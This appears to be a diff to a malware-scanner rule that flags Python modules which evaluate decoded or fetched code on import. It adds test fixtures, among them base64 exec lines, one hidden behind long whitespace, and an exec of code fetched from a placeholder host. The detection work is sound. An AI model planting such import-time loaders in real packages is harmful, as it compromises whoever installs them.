@@ -6,14 +6,68 @@ export const importHiddenCode: Rule = {
   kind: 'code',
   severity: 'critical',
   verdict: 'malicious',
+  tactic: 'defense-evasion',
+  capabilities: ['subprocess', 'obfuscation'],
+  languages: ['python'],
   summary: 'A module evaluates text that it decodes or fetches, as soon as it is imported.',
-  judge: ({ importTime }) =>
-    importTime
-      .filter((seen) => seen.signal === 'decoded-code' || seen.signal === 'remote-shell')
-      .map(({ file, line, evidence }) => ({
-        message: 'The module evaluates hidden or fetched text when it is imported.',
-        ...(file === undefined ? {} : { file }),
-        ...(line === undefined ? {} : { line }),
-        evidence,
-      })),
+  message: 'evaluates hidden or fetched text when it is imported',
+  pattern: { where: 'import', any: ['decoded-code', 'remote-shell'] },
+  samples: {
+    hits: [
+      {
+        what: 'hidden code at import (W4SP)',
+        format: 'wheel',
+        files: { 'sample/__init__.py': 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))' },
+        verdict: 'malicious',
+      },
+      {
+        what: 'the same pushed off the screen',
+        format: 'wheel',
+        files: {
+          'sample/__init__.py': `import base64${' '.repeat(300)};exec(base64.b64decode("cHJpbnQoMSk="))`,
+        },
+        verdict: 'malicious',
+      },
+      {
+        what: 'the same in another module',
+        format: 'wheel',
+        files: {
+          'sample/deep/er.py':
+            'from marshal import loads\nfrom zlib import decompress as d\nexec(loads(d(b"x")))',
+        },
+        verdict: 'malicious',
+      },
+      {
+        what: 'fetched code at import',
+        format: 'wheel',
+        files: {
+          'sample/__init__.py':
+            'import urllib.request\nexec(urllib.request.urlopen("https://x.invalid").read())',
+        },
+        verdict: 'malicious',
+      },
+    ],
+    ignores: [
+      {
+        what: 'a template engine',
+        format: 'wheel',
+        files: {
+          'sample/t.py':
+            'def render(source):\n  ns = {}\n  exec(compile(source, "t", "exec"), ns)\n  return ns',
+        },
+        why: 'It evaluates what its caller gives it, and not at import.',
+        verdict: 'clean',
+      },
+      {
+        what: 'embedded data',
+        format: 'wheel',
+        files: {
+          'sample/data.py':
+            'import base64, zlib\nDATA = zlib.decompress(base64.b64decode("eA=="))\ndef f():\n  return eval("1")',
+        },
+        why: 'What is decoded is kept as data; what is evaluated stands there.',
+        verdict: 'clean',
+      },
+    ],
+  },
 };
